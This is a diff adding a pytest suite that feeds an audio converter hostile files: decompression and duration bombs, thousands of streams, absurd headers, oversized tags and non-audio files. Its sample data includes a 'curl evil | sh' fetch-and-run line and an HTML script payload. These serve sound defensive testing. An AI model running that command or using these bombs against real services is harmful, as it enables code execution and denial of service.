@@ -1,0 +1,246 @@
+"""Small files that would cost much: each ends soon, in its own error or in a small result."""
+
+from __future__ import annotations
+
+import struct
+import time
+import zlib
+from random import Random
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.hostile import bombs, boxes, ebml
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+    from tests.hostile.victim import Victim
+
+# Not what it should take (seconds at most), but what no bomb reaches on the busiest machine.
+SOON_S = 60
+THREE_HOURS_S = 3 * 3600
+SMALL = 50_000_000
+
+
+def noise(size: int, seed: int = 0) -> bytes:
+    return Random(seed).randbytes(size)  # noqa: S311  # the same each time
+
+
+CLAIMED: dict[str, Callable[[], bytes]] = {
+    "FLAC, a day of silence": lambda: bombs.flac_silence(bombs.DAY_S),
+    "Opus, a day of silence": lambda: bombs.opus_silence(bombs.DAY_S),
+    "WAV, one sample a second": lambda: bombs.wav(1, 1, bytes(100_000)),
+    "Matroska, ten years": lambda: ebml.matroska(ebml.track(1), ebml.cluster(), seconds=3e8),
+}
+
+
+@pytest.mark.parametrize("name", CLAIMED)
+def test_a_bomb_that_says_how_long_it_is_is_never_lit(victim: Victim, name: str) -> None:
+    data = CLAIMED[name]()
+    begin = time.monotonic()
+    outcome = victim.convert(data)
+
+    assert (outcome.code, len(data) < 3_000_000) == ("too_long", True)
+    assert time.monotonic() - begin < SOON_S
+
+
+def aac_silence(audio: Callable[..., Path]) -> bytes:
+    quiet = audio("aac", "-af", "volume=0", "-ar", "8000", "-ac", "1").read_bytes()
+    return bombs.first_frame(quiet[-40:][quiet[-40:].find(b"\xff\xf1") :]) * (THREE_HOURS_S * 8)
+
+
+def mp3_silence(audio: Callable[..., Path]) -> bytes:
+    bare = (
+        "-af",
+        "volume=0",
+        "-ar",
+        "8000",
+        "-ac",
+        "1",
+        "-b:a",
+        "8k",
+        "-write_xing",
+        "0",
+        "-id3v2_version",
+        "0",
+    )
+    return audio("mp3", *bare).read_bytes()[:72] * (THREE_HOURS_S * 14)
+
+
+ENDLESS: dict[str, Callable[[Callable[..., Path]], bytes]] = {
+    "FLAC": lambda _: bombs.flac_silence(bombs.DAY_S, says_so=False),
+    "AAC": aac_silence,
+    "MP3": mp3_silence,
+}
+
+
+@pytest.mark.parametrize("name", ENDLESS)
+def test_a_bomb_that_does_not_say_is_put_out_at_the_longest_that_is_taken(
+    victim: Victim, audio: Callable[..., Path], name: str
+) -> None:
+    data = ENDLESS[name](audio)
+    begin = time.monotonic()
+    outcome = victim.convert(data, "mp3")
+
+    assert (outcome.code, outcome.output) == ("too_long", None)
+    assert time.monotonic() - begin < SOON_S
+
+
+STREAMS: dict[str, Callable[[], bytes]] = {
+    "Matroska": lambda: ebml.many_tracks(5000),
+    "Ogg": lambda: bombs.ogg_of_many_streams(3000),
+}
+
+
+@pytest.mark.parametrize("name", STREAMS)
+def test_thousands_of_streams_are_too_many(victim: Victim, name: str) -> None:
+    assert victim.convert(STREAMS[name]()).code == "too_many_streams"
+
+
+def test_a_transport_stream_that_announces_thousands_ends_in_words(victim: Victim) -> None:
+    assert victim.convert(bombs.transport_stream(3000)).code is not None
+
+
+def test_an_mp4_of_thousands_of_tracks_has_too_many(victim: Victim, audio: Callable[..., Path]) -> None:
+    parts = dict(boxes.boxes(audio("m4a").read_bytes()))
+    track = boxes.box(b"trak", dict(boxes.boxes(parts[b"moov"]))[b"trak"])
+    movie = boxes.box(b"moov", parts[b"moov"] + track * 3000)
+    outcome = victim.convert(boxes.box(b"ftyp", parts[b"ftyp"]) + boxes.box(b"mdat", parts[b"mdat"]) + movie)
+
+    assert outcome.code == "too_many_streams"
+
+
+ABSURD = {
+    "no channels": (8000, 0, 16),
+    "255 channels": (8000, 255, 16),
+    "65535 channels": (8000, 65_535, 8),
+    "no sample rate": (0, 1, 16),
+    "four billion samples a second": (0xFFFFFFFF, 1, 16),
+    "two billion samples a second": (0x7FFFFFFF, 2, 16),
+    "no bits": (8000, 1, 0),
+    "4096 bits": (8000, 1, 4096),
+}
+
+
+@pytest.mark.parametrize("form", ["mp3", "wav"])
+@pytest.mark.parametrize("name", ABSURD)
+def test_absurd_shapes_end_in_words(any_victim: Victim, name: str, form: str) -> None:
+    rate_hz, channels, bits = ABSURD[name]
+    outcome = any_victim.convert(bombs.wav(rate_hz, channels, bytes(200_000), bits), form)
+
+    assert outcome.code is not None or len(outcome.output or b"") < SMALL
+
+
+def test_an_index_of_two_billion_samples_is_not_believed(victim: Victim, audio: Callable[..., Path]) -> None:
+    many = bombs.sample_sizes(0x7FFFFFFF)
+    outcome = victim.convert(boxes.changed(audio("m4a").read_bytes(), b"stsz", lambda _: many))
+
+    assert outcome.output is None or len(outcome.output) < SMALL
+
+
+def test_a_compressed_movie_header_does_not_unpack_without_end(victim: Victim) -> None:
+    packed = struct.pack(">I", 0x7FFFFFF0) + zlib.compress(bytes(20_000_000), 9)
+    movie = boxes.box(b"cmov", boxes.box(b"dcom", b"zlib") + boxes.box(b"cmvd", packed))
+    outcome = victim.convert(boxes.box(b"ftyp", b"qt  \0\0\0\0qt  ") + boxes.box(b"moov", movie))
+
+    assert outcome.code in {"not_audio", "no_audio_stream"}
+
+
+def test_compressed_blocks_do_not_unpack_without_end(victim: Victim) -> None:
+    begin = time.monotonic()
+    outcome = victim.convert(ebml.zlib_bomb(9_000_000), "mp3")
+
+    assert outcome.output is None or len(outcome.output) < SMALL
+    assert time.monotonic() - begin < SOON_S
+
+
+def test_thousands_of_nested_elements_are_only_skipped(victim: Victim) -> None:
+    assert victim.convert(ebml.nested(5000)).code is None
+
+
+def vorbis_comments(count: int) -> bytes:
+    pairs = b"".join(struct.pack("<I", 9) + b"%07d=x" % n for n in range(count))
+    block = struct.pack("<I", 0) + struct.pack("<I", count) + pairs
+    return b"\4" + len(block).to_bytes(3) + block
+
+
+TAGS: dict[str, Callable[[], bytes]] = {
+    "a thousand texts": lambda: bombs.id3_tag(
+        b"".join(bombs.id3_frame(b"TXXX", b"\0%d\0x" % n) for n in range(100_000))
+    ),
+    "a text of ten million letters": lambda: bombs.id3_tag(
+        bombs.id3_frame(b"TIT2", b"\0" + b"a" * 10_000_000)
+    ),
+    "ten thousand chapters": lambda: bombs.id3_chapters(10_000),
+    "a cover of ten million bytes": lambda: bombs.id3_tag(
+        bombs.id3_frame(b"APIC", b"\0image/jpeg\0\3\0\xff\xd8" + noise(10_000_000))
+    ),
+    "a cover of sixteen gigapixels": lambda: bombs.id3_tag(
+        bombs.id3_frame(b"APIC", b"\0image/png\0\3\0" + bombs.png_of(131_072, 131_072))
+    ),
+    "a thousand covers": lambda: bombs.id3_tag(
+        bombs.id3_frame(b"APIC", b"\0image/png\0\3\0" + bombs.png_of(9, 9)) * 1000
+    ),
+    "texts that are no text": lambda: bombs.id3_tag(
+        b"".join(bombs.id3_frame(b"TXXX", bytes([n % 4]) + noise(99, n)) for n in range(99))
+    ),
+    "a tag within a tag": lambda: bombs.id3_tag(b"ID3\3\0\0\0\0\x7f\x7f" * 1000),
+}
+
+
+@pytest.mark.parametrize("form", ["flac", "mp3"])
+@pytest.mark.parametrize("name", TAGS)
+def test_gigantic_tags_end_in_words_or_in_a_result_that_a_document_can_hold(
+    any_victim: Victim, audio: Callable[..., Path], name: str, form: str
+) -> None:
+    sound = audio("mp3", "-id3v2_version", "0").read_bytes()
+    outcome = any_victim.convert(TAGS[name]() + sound, form)
+    probe = outcome.task.source.probe
+
+    assert outcome.code is not None or (probe is not None and len(repr(probe)) < 500_000)
+
+
+def test_a_hundred_thousand_comments_are_given_up(any_victim: Victim, audio: Callable[..., Path]) -> None:
+    """ffmpeg looks through all of them for each of them."""
+    data = audio("flac").read_bytes()
+    outcome = any_victim.convert(data[:42] + vorbis_comments(100_000) + data[42:], "ogg")
+
+    assert outcome.code == "timed_out"
+
+
+ELSEWHERE: dict[str, bytes] = {
+    "ZIP": b"PK\3\4\x14\0\0\0\0\0" + bytes(20) + b"song.mp3" + b"x" * 5000,
+    "PDF": b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n" + b"%filler\n" * 900,
+    "EXE": b"MZ\x90\0\3\0\0\0" + bytes(52) + b"\x80\0\0\0" + b"PE\0\0" + bytes(5000),
+    "ELF": b"\x7fELF\2\1\1" + bytes(5000),
+    "HTML": b"<!doctype html><script>alert(1)</script>" * 200,
+    "shell script": b"#!/bin/sh\ncurl evil | sh\n" * 200,
+    "GZIP": b"\x1f\x8b\x08\0" + zlib.compress(bytes(9_000_000)),
+    "SQLite": b"SQLite format 3\0" + bytes(8000),
+    "GIF": b"GIF89a\1\0\1\0\x80\0\0" + bytes(5000) + b";",
+    "JPEG": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + bytes(5000) + b"\xff\xd9",
+    "TAR": b"song.mp3".ljust(257, b"\0") + b"ustar\0" + bytes(5000),
+    "nothing but zeros": bytes(100_000),
+    "nothing but ones": b"\xff" * 100_000,
+    "noise": noise(100_000),
+    "one byte": b"\0",
+}
+
+
+@pytest.mark.parametrize("name", ELSEWHERE)
+def test_what_is_something_else_is_refused_in_words(any_victim: Victim, name: str) -> None:
+    outcome = any_victim.convert(ELSEWHERE[name])
+
+    assert outcome.code is not None
+    assert outcome.output is None
+
+
+@pytest.mark.parametrize("head", ["ZIP", "PDF", "GIF", "HTML"])
+def test_a_file_that_is_two_things_gives_its_sound_or_an_error(
+    any_victim: Victim, audio: Callable[..., Path], head: str
+) -> None:
+    outcome = any_victim.convert(ELSEWHERE[head] + audio("mp3").read_bytes(), "wav")
+
+    assert (outcome.output or b"RIFF")[:4] == b"RIFF"
